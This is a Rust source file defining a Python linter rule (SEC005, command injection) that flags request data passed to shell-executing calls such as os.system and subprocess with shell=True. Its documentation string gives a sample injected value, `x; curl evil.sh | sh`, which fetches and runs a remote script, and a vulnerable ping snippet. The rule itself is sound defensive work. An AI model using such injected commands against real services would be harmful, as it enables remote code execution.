//! SEC005: the documentation is [`DOC`].

use ruff_python_ast::Expr;

use crate::checker::helpers::{dotted, is_true};
use crate::finding::{Category, Severity};
use crate::registry::Rule;
use crate::taint::SinkSite;

pub const RULE: Rule = Rule {
    code: "SEC005",
    name: "command-injection",
    category: Category::Security,
    severity: Severity::Error,
    cwe: Some(78),
    summary: "Shell command built from request data",
    doc: DOC,
};

pub const DOC: &str = r#"
## What it does
Flags request data reaching a shell: `os.system()`, `os.popen()`,
`subprocess.getoutput()`, and `subprocess.run/call/check_call/check_output/Popen`
with `shell=True`, inside a request handler.

## Why is this bad?
The shell interprets `;`, `|`, `$(…)` and backticks: a value such as
`x; curl evil.sh | sh` runs the attacker's commands with the service's
privileges.

## Example
```python
host = request.args["host"]
out = subprocess.check_output(f"ping -c 1 {host}", shell=True)
```

Use instead:
```python
host = request.args["host"]
out = subprocess.check_output(["ping", "-c", "1", host])
```

## References
- [Python: Security Considerations for subprocess](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [CWE-78](https://cwe.mitre.org/data/definitions/78.html)
"#;

pub fn sink<'a>(site: &SinkSite<'a>) -> Option<&'a Expr> {
    let call = site.call;
    let callee = dotted(&call.func)?;
    match callee.as_str() {
        "os.system" | "os.popen" | "subprocess.getoutput" | "subprocess.getstatusoutput" => {
            call.arguments.find_argument_value("cmd", 0)
        }
        "subprocess.run"
        | "subprocess.call"
        | "subprocess.check_call"
        | "subprocess.check_output"
        | "subprocess.Popen" => {
            let shell = call.arguments.find_keyword("shell").is_some_and(|k| is_true(&k.value));
            if shell {
                call.arguments.find_argument_value("args", 0)
            } else {
                None
            }
        }
        _ => None,
    }
}
